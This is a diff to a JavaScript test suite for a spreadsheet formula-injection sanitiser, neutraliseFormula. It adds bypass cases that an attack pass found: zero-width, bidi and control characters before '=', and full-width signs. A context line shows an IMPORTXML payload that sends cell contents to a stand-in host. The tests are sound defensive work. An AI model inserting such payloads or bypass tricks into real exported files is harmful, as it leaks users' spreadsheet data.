@@ -14,6 +14,23 @@ const PAYLOADS = [
   '=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a")',
 ];
 
+// What an outside attack pass got through the old first-character check (issue 13, item 4).
+const HIDDEN_LEAD = [
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\v=1+1',
+  '\f=1+1',
+  '\u202e=1+1',
+  '\u2060 \u00ad+1+1',
+  '\u0085-1',
+];
+const FULL_WIDTH = ['＝1+1', '＋1', '－1', '＠SUM(1)', '\u3000＝HYPERLINK("http://x")'];
+const ERROR_LITERALS = ['#N/A', '#n/a', '#DIV/0!', ' #REF! ', '#NAME?'];
+
 describe('neutraliseFormula', () => {
   it.each(PAYLOADS)('turns %j into text that starts with a quote', (payload) => {
     const safe = neutraliseFormula(payload);
@@ -21,16 +38,38 @@ describe('neutraliseFormula', () => {
     expect(isFormulaLike(safe)).toBe(false);
   });
 
+  it.each(HIDDEN_LEAD)('looks past leading whitespace, control, zero-width and bidi characters in %j', (payload) => {
+    expect(isFormulaLike(payload)).toBe(true);
+    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
+  });
+
+  it.each(FULL_WIDTH)('treats the full-width sign in %j like its ASCII twin', (payload) => {
+    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
+  });
+
+  it.each(ERROR_LITERALS)('keeps the error literal %j as text', (payload) => {
+    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
+  });
+
+  it('strips NUL characters wherever they are, and still neutralises what follows', () => {
+    expect(neutraliseFormula('进\0展')).toBe('进展');
+    expect(neutraliseFormula('\0=1+1')).toBe("'=1+1");
+  });
+
   it('leaves ordinary Chinese progress text unchanged', () => {
     const text = '已入户走访 132 户，完成率 85%';
     expect(neutraliseFormula(text)).toBe(text);
   });
 
-  it('leaves text with an equals sign in the middle unchanged', () => {
+  it('leaves text with an equals sign in the middle, or a leading # that is no error literal, unchanged', () => {
     expect(neutraliseFormula('目标=100户')).toBe('目标=100户');
+    expect(neutraliseFormula('#3 号楼已完工')).toBe('#3 号楼已完工');
+    expect(neutraliseFormula('  已完成')).toBe('  已完成');
   });
 
   it('is idempotent: neutralising twice adds only one quote', () => {
-    for (const p of PAYLOADS) expect(neutraliseFormula(neutraliseFormula(p))).toBe(neutraliseFormula(p));
+    for (const p of [...PAYLOADS, ...HIDDEN_LEAD, ...FULL_WIDTH, ...ERROR_LITERALS]) {
+      expect(neutraliseFormula(neutraliseFormula(p))).toBe(neutraliseFormula(p));
+    }
   });
 });
